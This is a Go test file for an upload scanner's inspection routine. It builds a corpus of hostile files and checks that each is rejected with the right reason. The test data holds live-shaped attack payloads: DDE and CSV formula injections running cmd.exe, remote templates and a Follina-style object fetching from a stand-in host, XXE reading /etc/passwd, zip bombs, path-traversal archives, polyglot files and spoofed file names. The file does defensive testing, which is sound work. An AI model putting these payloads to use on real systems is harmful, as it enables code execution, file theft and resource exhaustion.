package blob_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/png"
	"io"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/alur-id/alur"
	"github.com/alur-id/alur/internal/blob"
	"github.com/alur-id/alur/internal/racetest"
)

// A hostile file is one of the corpus of promises.md: made here, with the verdict that it
// must end with.
type hostile struct {
	what string // what it is, and how it is made
	name string
	make func() []byte
	code alur.Code // unsafe-file where it is ""
	why  string    // in the reason, which logs have
}

// corpus is every hostile file there is. Each stands for a way in that somebody has used.
var corpus = []hostile{
	// Macros and programs in office formats.
	{"DOCM renamed: the content type says macros", "surat.docx", func() []byte {
		return zipOf(contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"), part{"word/document.xml", "<w/>"})
	}, "", "macros"},
	{"DOCM renamed, the content type spelled with references", "surat.docx", func() []byte {
		return zipOf(contentTypes("application/vnd.ms-word.document.macro&#69;nabled.main+xml"), part{"word/document.xml", "<w/>"})
	}, "", "macros"},
	{"DOCX with vbaProject.bin", "surat.docx", func() []byte { return docx(part{"word/vbaProject.bin", compoundFile("_VBA_PROJECT")}) }, "", "macros"},
	{"DOCX with a VBA project under another name", "surat.docx", func() []byte { return docx(part{"word/media/gambar1.bin", compoundFile("_VBA_PROJECT")}) }, "", "macros"},
	{"XLSB renamed to XLSX", "rab.xlsx", func() []byte {
		return zipOf(contentTypes("application/vnd.ms-excel.sheet.binary.macroEnabled.main"), part{"xl/workbook.bin", "x"})
	}, "", "macros"},
	{"XLSX with a sheet of XLM macros", "rab.xlsx", func() []byte {
		return zipOf(contentTypes(sheetMain), part{"xl/workbook.xml", "<w/>"}, part{"xl/macrosheets/sheet1.xml", "<x/>"})
	}, "", "macros"},
	{"XLSX that declares an XLM sheet elsewhere", "rab.xlsx", func() []byte {
		return zipOf(contentTypes(sheetMain+`"/><Override PartName="/xl/y.xml" ContentType="application/vnd.ms-excel.intlmacrosheet+xml`), part{"xl/workbook.xml", "<w/>"})
	}, "", "macros"},
	{"DOCX with an ActiveX control", "surat.docx", func() []byte { return docx(part{"word/activeX/activeX1.bin", "x"}) }, "", "macros"},
	{"ODT with a Basic library", "surat.odt", func() []byte { return odt(part{"Basic/Standard/Module1.xml", "<x/>"}) }, "", "macros"},
	{"ODT with a Python script", "surat.odt", func() []byte { return odt(part{"Scripts/python/x.py", "import os"}) }, "", "macros"},
	{"ODT whose text calls a script of the reader's own", "surat.odt", func() []byte {
		return zipOf(part{"mimetype", blob.ODT.MediaType}, part{"content.xml", `<script:event-listener xlink:href="vnd.sun.star.script:pip.py$exec?language=Python&amp;location=share"/>`})
	}, "", "macros"},
	{"DOCX with a DDE field", "surat.docx", func() []byte {
		return docxText(`<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/>`)
	}, "", "DDE"},
	{"DOCX with a DDE field spread over runs", "surat.docx", func() []byte {
		return docxText(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>DEAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)
	}, "", "DDE"},
	{"XLSX with a DDE link", "rab.xlsx", func() []byte {
		return zipOf(contentTypes(sheetMain), part{"xl/workbook.xml", "<w/>"}, part{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`})
	}, "", "DDE"},
	{"PPTX that starts a program at a click", "paparan.pptx", func() []byte {
		return zipOf(contentTypes(slideMain), part{"ppt/presentation.xml", "<p/>"}, part{"ppt/slides/slide1.xml", `<a:hlinkClick action="ppaction://program"/>`})
	}, "", "starts a program"},
	{"DOCX with a template on a server", "surat.docx", func() []byte { return docxRelation("attachedTemplate", "https://jahat.example/t.dotm") }, "", "elsewhere"},
	{"DOCX with a template on a server, the address spelled with references", "surat.docx", func() []byte { return docxRelation("attachedTemplate", "&#104;ttp://jahat.example/t.dotm") }, "", "elsewhere"},
	{"DOCX with a template in a shared folder", "surat.docx", func() []byte { return docxRelation("attachedTemplate", `\\jahat.example\share\t.dotm`) }, "", "elsewhere"},
	{"DOCX with a template in a shared folder, as file address", "surat.docx", func() []byte { return docxRelation("attachedTemplate", "file://jahat.example/share/t.dotm") }, "", "elsewhere"},
	{"DOCX with an object on a server (Follina)", "surat.docx", func() []byte {
		return docxRelation("oleObject", "mhtml:https://jahat.example/x.html!x-usc:https://jahat.example/x.html")
	}, "", "elsewhere"},
	{"DOCX that takes a page in (altChunk)", "surat.docx", func() []byte {
		return docx(part{"word/_rels/document.xml.rels", `<Relationships><Relationship Id="1" Type="http://x/aFChunk" Target="afchunk.mht"/></Relationships>`})
	}, "", "page in it"},
	{"DOCX with a packed file (OLE package)", "surat.docx", func() []byte { return docx(part{"word/embeddings/oleObject1.bin", compoundFile("\x01Ole10Native")}) }, "", "file in it"},
	{"DOCX with a program as picture", "surat.docx", func() []byte { return docx(part{"word/media/image1.png", "MZ\x90\x00"}) }, "", "program"},
	{"DOCX with an external entity", "surat.docx", func() []byte {
		return docx(part{"word/styles.xml", `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`})
	}, "", "document type"},
	{"DOCX with an external entity in a relation", "surat.docx", func() []byte {
		return docx(part{"_rels/.rels", `<!DOCTYPE x SYSTEM "https://jahat.example/x.dtd"><Relationships/>`})
	}, "", "document type"},
	{"ODT with entities that multiply", "surat.odt", func() []byte {
		return odt(part{"styles.xml", `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>`})
	}, "", "document type"},
	{"DOCX in UTF-16, which a search does not see through", "surat.docx", func() []byte {
		return zipOf(part{"[Content_Types].xml", utf16le(`<?xml version="1.0"?><Types/>`)}, part{"word/document.xml", "<w/>"})
	}, "", "cannot be inspected"},
	{"encrypted DOCX: a compound file", "surat.docx", func() []byte { return []byte(compoundFile("EncryptedPackage")) }, "", "encrypted"},
	{"encrypted ODT", "surat.odt", func() []byte {
		return zipOf(part{"mimetype", blob.ODT.MediaType}, part{"META-INF/manifest.xml", "<manifest:encryption-data/>"})
	}, "", "encrypted"},

	// Bombs.
	{"ZIP bomb: 200 MB of zeros in one file", "a.zip", func() []byte { return zeros("nol.txt", 200<<20, 0) }, "", "too much"},
	{"ZIP bomb that says it is small", "a.zip", func() []byte { return zeros("nol.txt", 64<<20, 1000) }, "", "larger than it says"},
	{"ZIP bomb in a ZIP", "a.zip", func() []byte { return zipOf(part{"dalam.zip", string(zeros("nol.txt", 200<<20, 0))}) }, "", "too much"},
	{"ZIP bomb as a workbook in a document", "surat.docx", func() []byte { return docx(part{"word/embeddings/a.xlsx", string(zeros("xl/x.xml", 200<<20, 0))}) }, "", "too much"},
	{"ZIP bomb of files that share their bytes", "a.zip", overlapping, "", "overlap"},
	{"ZIP that holds itself without end (cut at the fourth level)", "r.zip", func() []byte {
		b := zipOf()
		for range 5 {
			b = zipOf(part{"r.zip", string(b)})
		}
		return b
	}, "", "nested too deeply"},
	{"ZIP of 12,000 files", "a.zip", func() []byte {
		parts := make([]part, 12_000)
		for i := range parts {
			parts[i].name = fmt.Sprint(i)
		}
		return zipOf(parts...)
	}, "", "too many files"},
	{"PDF whose objects unpack to 80 MB", "a.pdf", func() []byte { return pdfOf(packedObjects("/Filter /FlateDecode", strings.Repeat("0 ", 40<<20))) }, "", "too much"},
	{"PNG of 60,000 by 60,000 pixels in some bytes", "a.png", func() []byte { return hugePNG(60_000, 60_000) }, "", "too many pixels"},
	{"JPEG that says it has 65,535 by 65,535 pixels", "a.jpg", func() []byte { return patch(jpegOf(), "\xff\xc0", 5, 0xff, 0xff, 0xff, 0xff) }, "", "too many pixels"},

	// Two things at once, and things that are others than their name.
	{"PDF and ZIP", "a.pdf", func() []byte { return cat(pdfOf(""), zipOf(part{"a.txt", "x"})) }, "", "archive hides"},
	{"PDF and page: behind the header", "a.pdf", func() []byte { return cat([]byte("%PDF-1.4\n%<html><script>alert(1)</script>\n"), pdfOf("")) }, "", "page as well"},
	{"PDF and page: behind the end", "a.pdf", func() []byte { return cat(pdfOf(strings.Repeat("% isi\n", 300)), []byte("<script>alert(1)</script>")) }, "", "behind the end"},
	{"PDF and JavaScript: the header in a comment", "a.pdf", func() []byte { return cat([]byte("/*"), pdfOf(""), []byte("*/alert(1)")) }, "", "not a PDF"},
	{"PDF whose header comes late", "a.pdf", func() []byte { return cat(make([]byte, 1000), pdfOf("")) }, "", "not a PDF"},
	{"GIF and JAR, as PNG", "a.png", func() []byte { return cat([]byte("GIF89a"), zipOf(part{"A.class", "\xca\xfe\xba\xbe"})) }, "", "not a PNG"},
	{"JPEG and ZIP", "a.jpg", func() []byte { return cat(jpegOf(), zipOf(part{"a.txt", "x"})) }, "", "archive hides"},
	{"JPEG and program", "a.jpg", func() []byte { return cat(jpegOf(), []byte("MZ\x90\x00")) }, "", "behind the end"},
	{"PNG and page", "a.png", func() []byte { return cat(pngOf(), []byte("<html>")) }, "", "behind the end"},
	{"ZIP behind a program (self-extracting)", "a.zip", func() []byte { return cat([]byte("MZ\x90\x00"), zipOf(part{"a.txt", "x"})) }, "", "before"},
	{"document and workbook at once", "a.docx", func() []byte { return docx(part{"xl/workbook.xml", "<w/>"}) }, "", "no known kind"},
	{"program renamed to PDF", "kak.pdf", func() []byte { return []byte("MZ\x90\x00\x03\x00") }, "", "not a PDF"},
	{"page renamed to TXT", "a.txt", func() []byte { return []byte("<!DOCTYPE html><script>alert(1)</script>") }, "", "markup"},
	{"SVG renamed to PNG", "a.png", func() []byte { return []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`) }, "", "not a PNG"},
	{"text with bytes in it", "a.txt", func() []byte { return []byte("laporan\x00\x01\x02") }, "", "control characters"},
	{"page in UTF-16 as text", "a.txt", func() []byte { return []byte(utf16le("<script>alert(1)</script>")) }, "", "control characters"},
	{"CSV that starts a program", "a.csv", func() []byte { return []byte("nama;nilai\n\"=cmd|'/C calc'!A0\";1\n") }, "", "DDE"},

	// PDFs that do something.
	{"PDF with a script at its opening", "a.pdf", func() []byte {
		return pdfOf("3 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")
	}, "", "script"},
	{"PDF with a script in a packed object, its name escaped", "a.pdf", func() []byte {
		return pdfOf(packedObjects("/Filter /FlateDecode", "7 0 << /S /J#61vaScript /J#53 (x) >>"))
	}, "", "script"},
	{"PDF that launches a program", "a.pdf", func() []byte { return pdfOf("3 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj") }, "", "starts a program"},
	{"PDF with an embedded file", "a.pdf", func() []byte { return pdfOf("3 0 obj << /Type /EmbeddedFile >>\nstream\nMZ\nendstream endobj") }, "", "file in it"},
	{"PDF with a file attached to a page, of no declared type", "a.pdf", func() []byte {
		return pdfOf("3 0 obj << /FS << /EF << /F 4 0 R >> >> >> endobj 4 0 obj << >>\nstream\nMZ\nendstream endobj")
	}, "", "file in it"},
	{"PDF with a dynamic form (XFA)", "a.pdf", func() []byte { return pdfOf("3 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj") }, "", "form"},
	{"encrypted PDF", "a.pdf", func() []byte { return pdfOf("trailer << /Encrypt 5 0 R >>") }, "", "encrypted"},

	// Archives that lead out of their folder, or say one thing and hold another.
	{"ZIP, path up", "a.zip", func() []byte { return zipOf(part{"a/../../b.txt", "x"}) }, "", "leads out"},
	{"ZIP, absolute path", "a.zip", func() []byte { return zipOf(part{"/etc/cron.d/x", "x"}) }, "", "leads out"},
	{"ZIP, drive", "a.zip", func() []byte { return zipOf(part{`C:\Windows\x.txt`, "x"}) }, "", "leads out"},
	{"ZIP, shared folder", "a.zip", func() []byte { return zipOf(part{`\\jahat.example\share\x.txt`, "x"}) }, "", "leads out"},
	{"ZIP, path up in the name that Unicode readers take", "a.zip", func() []byte { return zipWith(zip.FileHeader{Name: "a.txt", Extra: unicodePath("../../b.txt")}, "x") }, "", "leads out"},
	{"ZIP with a symbolic link", "a.zip", func() []byte {
		h := zip.FileHeader{Name: "rahasia"}
		h.CreatorVersion, h.ExternalAttrs = 3<<8, 0o120777<<16
		return zipWith(h, "/etc/passwd")
	}, "", "link"},
	{"ZIP whose two headers differ", "a.zip", func() []byte { return patch(zipStored("a.txt", "isi"), "PK\x03\x04", 22, 9) }, "", "two ways"},
	{"ZIP with a program", "a.zip", func() []byte { return zipOf(part{"pasang.exe ", "x"}) }, "", "program"},
	{"ZIP with a program as picture, in a ZIP", "a.zip", func() []byte { return zipOf(part{"b.zip", string(zipOf(part{"gambar.png", "MZ\x90\x00"}))}) }, "", "program"},
	{"encrypted ZIP", "a.zip", func() []byte { return patch(zipOf(part{"a.txt", "x"}), "PK\x01\x02", 8, 1) }, "", "encrypted"},
	{"ZIP with an old document with macros", "a.zip", func() []byte { return zipOf(part{"lama.doc", compoundFile("_VBA_PROJECT")}) }, "", "macros"},

	// Broken off, empty, and names.
	{"DOCX that breaks off", "a.docx", func() []byte { b := docx(); return b[:len(b)-30] }, "", "breaks off"},
	{"PNG that breaks off", "a.png", func() []byte { b := pngOf(); return b[:len(b)-8] }, "", "without an end"},
	{"empty file", "a.pdf", func() []byte { return nil }, alur.CodeEmptyFile, ""},
	{"program with two extensions", "kak.pdf.exe", func() []byte { return []byte("MZ") }, alur.CodeUnsupportedMediaType, ""},
	{"program whose name reads backwards", "kak\u202efdp.exe", func() []byte { return []byte("MZ") }, alur.CodeUnsupportedMediaType, ""},
	{"program with a NUL in its name", "kak.exe\x00.pdf", func() []byte { return []byte("MZ") }, "", "not a PDF"},
	{"name of blanks and dots", " .. ", pngOf, alur.CodeUnsupportedMediaType, ""},
	{"SVG under its own name", "a.svg", func() []byte { return []byte("<svg/>") }, alur.CodeUnsupportedMediaType, ""},
}

// TestCorpus: every hostile file ends as its line says, quickly and in little memory.
func TestCorpus(t *testing.T) {
	racetest.Pure(t)
	t.Parallel()
	if len(corpus) < 60 {
		t.Fatalf("%d hostile files, 60 are promised", len(corpus))
	}
	for _, h := range corpus {
		t.Run(h.what, func(t *testing.T) {
			t.Parallel()
			b := h.make()
			_, err := blob.Inspect(bytes.NewReader(b), int64(len(b)), h.name)
			want := h.code
			if want == "" {
				want = alur.CodeUnsafeFile
			}
			if alur.CodeOf(err) != want || err != nil && !strings.Contains(err.Error(), h.why) {
				t.Errorf("%v, want %s: …%s…", err, want, h.why)
			}
		})
	}
}

// TestCorpusMemory: the worst bombs cost no more memory than any other file.
func TestCorpusMemory(t *testing.T) {
	b := zipOf(part{"dalam.zip", string(zeros("nol.txt", 200<<20, 0))}, part{"lagi.zip", string(zeros("nol.txt", 100<<20, 0))})
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	if _, err := blob.Inspect(bytes.NewReader(b), int64(len(b)), "a.zip"); alur.CodeOf(err) != alur.CodeUnsafeFile {
		t.Error(err)
	}
	runtime.ReadMemStats(&after)
	if used := after.TotalAlloc - before.TotalAlloc; used > 64<<20 {
		t.Errorf("%d MB were allocated", used>>20)
	}
}

// TestHostileNames: names are shown only; what is left of them is harmless.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`..\..\Windows\kak.pdf`: "kak.pdf", "../../etc/passwd": "passwd", `\\server\share\kak.pdf`: "kak.pdf", "C:\\x\\kak.pdf": "kak.pdf",
		"kak\u202efdp.pdf": "kakfdp.pdf", "\u200f\u2066kak.pdf\u2069": "kak.pdf", "kak\x00.pdf": "kak.pdf", "kak\r\nSet-Cookie: x.pdf": "kakSet-Cookie: x.pdf",
		"...": "dokumen", "": "dokumen", "  kak.pdf. ": "kak.pdf", strings.Repeat("k", 5000) + ".pdf": strings.Repeat("k", 176) + ".pdf",
	} {
		if got := blob.CleanName(in); got != want {
			t.Errorf("%.60q became %q", in, got)
		}
	}
}

func docxText(body string) []byte {
	return zipOf(contentTypes(wordMain), part{"word/document.xml", `<w:document><w:body><w:p>` + body + `</w:p></w:body></w:document>`})
}

func docxRelation(kind, target string) []byte {
	return docx(part{"word/_rels/settings.xml.rels", `<Relationships><Relationship TargetMode="External" Target="` + target + `" Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `"/></Relationships>`})
}

func utf16le(s string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

// compoundFile is the beginning of a compound file with a stream of the name.
func compoundFile(stream string) string {
	return "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 1016) + utf16le(stream)[2:] + strings.Repeat("\x00", 512)
}

// zeros is a ZIP of one file of zeros, packed as they are made; claimed, where it is not
// 0, is what the directory says instead of the size.
func zeros(name string, size int64, claimed uint64) []byte {
	var packed bytes.Buffer
	w, err := flate.NewWriter(&packed, flate.BestSpeed)
	if err != nil {
		panic(err)
	}
	sum := crc32.NewIEEE()
	if _, err := io.CopyN(io.MultiWriter(w, sum), nothing{}, size); err != nil {
		panic(err)
	}
	_ = w.Close()
	if claimed == 0 {
		claimed = uint64(size)
	}
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	f, err := z.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: sum.Sum32(), CompressedSize64: uint64(packed.Len()), UncompressedSize64: claimed})
	if err == nil {
		_, err = f.Write(packed.Bytes())
	}
	if err != nil {
		panic(err)
	}
	_ = z.Close()
	return out.Bytes()
}

type nothing struct{}

func (nothing) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// overlapping is a ZIP of two names for one file.
func overlapping() []byte {
	b := zipOf(part{"a", "1"}, part{"b", "2"})
	i := bytes.LastIndex(b, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(b[i+42:], 0)
	return b
}

// zipWith is a ZIP of one file with a header of one's own.
func zipWith(h zip.FileHeader, content string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	f, err := z.CreateHeader(&h)
	if err == nil {
		_, err = io.WriteString(f, content)
	}
	if err != nil {
		panic(err)
	}
	_ = z.Close()
	return out.Bytes()
}

// zipStored is a ZIP of one file that is not packed, its sizes before it.
func zipStored(name, content string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	f, err := z.CreateRaw(&zip.FileHeader{
		Name: name, CRC32: crc32.ChecksumIEEE([]byte(content)), CompressedSize64: uint64(len(content)), UncompressedSize64: uint64(len(content)),
	})
	if err == nil {
		_, err = io.WriteString(f, content)
	}
	if err != nil {
		panic(err)
	}
	_ = z.Close()
	return out.Bytes()
}

// unicodePath is the extra field with another name.
func unicodePath(name string) []byte {
	b := binary.LittleEndian.AppendUint16(nil, 0x7075)
	b = binary.LittleEndian.AppendUint16(b, uint16(5+len(name)))
	return append(append(b, 1, 0, 0, 0, 0), name...)
}

// hugePNG is a small picture that says it is large.
func hugePNG(width, height uint32) []byte {
	var out bytes.Buffer
	m := image.NewPaletted(image.Rect(0, 0, 8, 8), color.Palette{color.White})
	if err := png.Encode(&out, m); err != nil {
		panic(err)
	}
	b := out.Bytes()
	binary.BigEndian.PutUint32(b[16:], width)
	binary.BigEndian.PutUint32(b[20:], height)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}
